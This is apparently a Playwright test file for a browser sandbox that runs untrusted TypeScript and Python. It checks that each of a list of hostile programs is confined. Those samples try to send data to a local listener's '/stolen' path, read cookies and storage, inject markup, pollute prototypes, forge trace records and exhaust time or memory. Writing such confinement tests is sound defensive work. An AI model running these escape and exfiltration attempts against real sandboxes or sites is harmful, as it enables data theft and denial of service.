import { expect, test as base } from './reading-room.ts';
import { hostNames } from '../../src/engine/compile/host-names.ts';
import type { Language } from '../../src/engine/trace/event/events.ts';
import { honestPrograms } from '../honest-programs.ts';
import { listenOutside, type Outside } from '../listen-outside.ts';
import { SandboxPage } from './sandbox-page.ts';

/** A test with a server elsewhere that counts the requests it gets, in any protocol. */
const test = base.extend<{ outside: Outside }>({
  outside: async ({}, use) => {
    const outside = await listenOutside();
    await use(outside);
    outside.server.close();
  },
});

test.describe.configure({ timeout: 120_000 });
// The browser's refusals appear on its console.
test.use({ isNoisy: true });

/** A program and its expected result. `OUTSIDE` is replaced by an address that must not be reached. */
type Hostile = { readonly does: string; readonly source: string; readonly outcome: RegExp; readonly timeMs?: number };

const main = (body: string): string => `export async function main() {\n${body}\n}`;
/** Tries one thing after another and returns those that were not refused. */
const tries = (...lines: readonly string[]): string =>
  main(
    `const got: string[] = [];\n${lines
      .map((line) => `try { await (${line}); got.push(${JSON.stringify(line)}); } catch {}`)
      .join('\n')}\nreturn got.join(' ') || 'nothing';`,
  )
    .split('\n')
    // Names that a program may not use are not type errors here.
    .map((line) => (line.startsWith('try') ? `// @ts-ignore\n${line}` : line))
    .join('\n');

const markup = '<img src=OUTSIDE onerror="hacked = 1"><script>hacked = 2</script>';

const typescript: readonly Hostile[] = [
  {
    does: 'asks the network in every way',
    source: tries(
      'fetch("OUTSIDE")',
      'new XMLHttpRequest()',
      'new WebSocket("ws://OUTSIDE")',
      'new EventSource("OUTSIDE")',
    ),
    outcome: /^finished 'nothing'/,
  },
  {
    does: 'sends beacons and loads scripts, workers and fonts',
    source: tries(
      'navigator.sendBeacon("OUTSIDE")',
      'importScripts("OUTSIDE")',
      'new Worker("OUTSIDE")',
      'new SharedWorker("OUTSIDE")',
      'new FontFace("a", "url(OUTSIDE)").load()',
    ),
    outcome: /^finished 'nothing'/,
  },
  {
    does: 'reads what the site stores',
    source: tries('localStorage.a', 'sessionStorage.a', 'indexedDB.open("a")', 'caches.open("a")', 'document.cookie'),
    outcome: /^finished 'nothing'/,
  },
  {
    does: 'tries to reach the page',
    source: tries('document.body', 'window.top', 'parent.document', 'postMessage("a")', 'new BroadcastChannel("a")'),
    outcome: /^finished 'nothing'/,
  },
  {
    // The compiler refuses these names where they are used. This asks whether they are there at all.
    does: 'asks for every name of a host',
    source: main(
      `return [${[...hostNames.keys()].map((name) => `typeof ${name} === 'undefined' ? '' : '${name}'`).join(', ')}].join('') || 'nothing';`,
    ),
    outcome: /^finished 'nothing'/,
  },
  {
    does: 'goes elsewhere and opens windows',
    source: tries('top.location.assign("OUTSIDE")', 'location.assign("OUTSIDE")', 'open("OUTSIDE")', 'alert(1)'),
    outcome: /^finished 'nothing'/,
  },
  {
    does: 'makes code of text',
    source: tries('eval("1")', 'new Function("return 1")()', '(function* () {}).constructor("yield 1")().next()'),
    outcome: /^finished 'nothing'/,
  },
  {
    does: 'imports from elsewhere',
    source: `import 'OUTSIDE';\n${main('')}`,
    outcome: /^rejected 1:8 Expected an import/,
  },
  {
    does: 'loops and catches the error that should stop it',
    source: 'export function main() { for (;;) { try { for (;;) {} } catch {} finally { continue; } } }',
    outcome: /^stopped time/,
    timeMs: 500,
  },
  {
    does: 'matches an expression that backtracks for years',
    source: main(`/(a+)+$/.test('a'.repeat(60) + 'b');`),
    // WebKit gives up an expression by itself after some time.
    outcome: /^(stopped time|finished None)/,
    timeMs: 500,
  },
  {
    does: 'calls itself without end',
    source: `function deeper(): number { return 1 + deeper(); }\n${main('return deeper();')}`,
    outcome: /^failed (RangeError|InternalError): /,
  },
  {
    does: 'fills the memory with bytes',
    source: main('const all = []; for (;;) all.push(new Uint8Array(50_000_000));'),
    // WebKit may refuse bytes before the variables have been looked at.
    outcome: /^(stopped memory|failed RangeError: Out of memory)/,
  },
  {
    does: 'fills the memory with objects',
    source: main('const all = []; for (;;) all.push(new Array(10_000).fill({}));'),
    outcome: /^stopped memory/,
  },
  {
    does: 'prints one line of 100 MB',
    source: main(`console.log('x'.repeat(100_000_000));`),
    outcome: /^stopped output/,
  },
  {
    does: 'writes its own record',
    source: main(`JSON.stringify = () => '{"seq":0,"kind":"__proto__","__proto__":{"polluted":1}}'; console.log('x');`),
    outcome: /^failed ForgedTrace/,
  },
  {
    does: 'fails with markup',
    source: main(`throw new Error(${JSON.stringify(markup)});`),
    outcome: /^failed Error: <img /,
  },
];

/** Tries one thing after another and returns those that were not refused. */
const attempts = (...lines: readonly string[]): string =>
  [
    'got = []',
    ...lines.flatMap((line) => [
      'try:',
      `    ${line}`,
      `    got.append(${JSON.stringify(line)})`,
      'except BaseException:',
      '    pass',
    ]),
    'print(got)',
    'async def main():',
    '    return got or "nothing"',
  ].join('\n');

const python: readonly Hostile[] = [
  {
    does: 'imports modules that lead into JavaScript',
    source: attempts(
      'import js',
      'import pyodide_js',
      'import pyodide.http',
      'import micropip',
      'import _pyodide_core',
    ),
    outcome: /^finished 'nothing'/,
  },
  {
    does: 'looks for JavaScript among all objects that live',
    source:
      'import gc\nfound = [o for o in gc.get_objects() if "Js" in type(o).__name__ or "pyodide" in getattr(type(o), "__module__", "")]\nassert not found',
    outcome: /^finished None/,
  },
  {
    does: 'opens connections',
    source: attempts(
      'import socket; socket.create_connection(("127.0.0.1", OUTPORT), 1).send(b"x")',
      'import urllib.request; urllib.request.urlopen("OUTSIDE").read()',
      'import http.client; c = http.client.HTTPConnection("127.0.0.1", OUTPORT); c.request("GET", "/stolen"); c.getresponse()',
    ),
    outcome: /^finished 'nothing'/,
  },
  {
    // A thread runs on a lane in virtual time, so it is the only attempt that succeeds.
    does: 'starts threads, processes and a browser',
    source: attempts(
      'import threading; threading.Thread(target=print).start()',
      'import subprocess; subprocess.run(["ls"])',
      'import os; os.fork()',
      'import webbrowser; assert webbrowser.open("OUTSIDE")',
    ),
    outcome: /^finished \['import threading; threading\.Thread\(target=print\)\.start\(\)'\]/,
  },
  {
    does: 'has the engine run a text through ctypes',
    source: 'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"hacked = 1")',
    outcome: /^failed (EvalError|Error|JsException)/,
  },
  { does: 'ends the process at once', source: 'import os\nos._exit(3)', outcome: /^(failed|stopped)/ },
  {
    does: 'loops inside a function written in C',
    source: 'import itertools\nsum(itertools.repeat(1))',
    outcome: /^stopped time/,
    timeMs: 500,
  },
  {
    does: 'loops and catches the error that should stop it',
    source: 'while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass',
    outcome: /^stopped time/,
    timeMs: 500,
  },
  { does: 'asks for 10 GB', source: 'x = "x" * 10**10', outcome: /^failed (MemoryError|OverflowError)/ },
  {
    does: 'fills the memory',
    source: 'all = []\nwhile True:\n    all.append(bytearray(10_000_000))',
    outcome: /^(failed MemoryError|stopped time)/,
    timeMs: 1000,
  },
  { does: 'prints one line of 50 MB', source: 'print("x" * 50_000_000)', outcome: /^stopped output/ },
  {
    does: 'writes events of its own',
    source: `open('/dev/trace', 'w').write('e[{"__proto__":{"polluted":1},"seq":0}]')`,
    outcome: /^failed ForgedTrace/,
  },
  {
    does: 'floods the frame',
    source: `import os\nf = os.open('/dev/trace', os.O_WRONLY)\nwhile True:\n    os.write(f, b'e[]')`,
    outcome: /^stopped output/,
  },
  { does: 'prints markup', source: `print(${JSON.stringify(markup)})`, outcome: /^finished None/ },
];

const programs: Readonly<Record<Language, readonly Hostile[]>> = { typescript, python };

for (const language of ['typescript', 'python'] as const) {
  test(`hostile ${language} programs are confined, and the next honest one runs`, async ({ reader, site, outside }) => {
    const page = new SandboxPage(reader);
    await page.open(site.origin);
    await reader.evaluate(() => {
      document.cookie = 'secret=1';
      localStorage.setItem('secret', '1');
    });
    const address = `http://127.0.0.1:${outside.port}/stolen`;
    for (const { does, source, outcome, timeMs } of programs[language]) {
      await test.step(`a program that ${does}`, async () => {
        const text = source.replaceAll('OUTSIDE', address).replaceAll('OUTPORT', String(outside.port));
        const found = await page.run(language, text, timeMs);
        expect(found, does).toMatch(outcome);
        const left = await reader.evaluate(() => ({
          hacked: (globalThis as { hacked?: unknown }).hacked ?? null,
          polluted: Object.keys(Object.prototype).length,
          path: location.pathname,
          images: document.querySelectorAll('main img').length,
        }));
        expect([does, left]).toEqual([does, { hacked: null, polluted: 0, path: '/dev/sandbox/', images: 0 }]);
        expect([does, outside.requests]).toEqual([does, 0]);
      });
    }
    expect(await page.run(language, honestPrograms[language])).toMatch(/^finished 7 · /);
    expect(outside.requests).toBe(0);
  });
}
